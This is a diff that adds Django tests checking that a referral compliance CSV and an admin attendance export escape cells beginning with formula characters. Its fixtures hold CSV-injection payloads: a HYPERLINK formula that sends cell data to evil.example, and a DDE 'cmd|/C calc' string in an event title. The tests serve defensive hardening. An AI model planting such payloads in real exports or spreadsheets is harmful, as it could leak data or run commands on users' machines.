@@ -161,3 +161,44 @@ def test_rejected_notifications_are_counted_and_sampled_not_stored(settings, cap
     counted = AttemptCounter.objects.filter(key="rejected:wechatpay_notify").values_list("count", flat=True)
     assert sum(counted) == 50
     assert [r for r in caplog.records if r.getMessage().startswith("ALERT rejected wechatpay_notify")]
+
+
+# ---- CSV cells never run as formulas ----------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+
+
+def test_compliance_csv_escapes_formula_cells():
+    import csv
+    import io
+
+    from django.urls import reverse
+
+    from tests.referrals import factories as rf
+
+    top = UserFactory(nickname=FORMULA)
+    rf.bind(UserFactory(nickname="@SUM(1+1)"), top)
+    client = Client()
+    client.force_login(UserFactory(is_staff=True, is_superuser=True))
+    response = client.get(reverse("referrals:compliance_csv"))
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'" + FORMULA in cells and "'@SUM(1+1)" in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
+
+
+def test_admin_attendance_export_escapes_formula_cells():
+    from courses.models import Event
+    from courses.services import event_register
+    from tests.courses import factories as cf
+
+    event = cf.make_event(price_fen=0, title="-2+3+cmd|' /C calc'!A0")
+    event_register(user=UserFactory(nickname=FORMULA), event=event)
+    client = Client()
+    client.force_login(UserFactory(is_staff=True, is_superuser=True))
+    export = client.post(
+        "/admin/courses/event/",
+        {"action": "export_attendance", "_selected_action": [e.pk for e in Event.objects.all()]},
+    )
+    text = export.content.decode("utf-8-sig")
+    assert "'" + FORMULA.replace('"', '""') in text and "'-2+3+cmd" in text
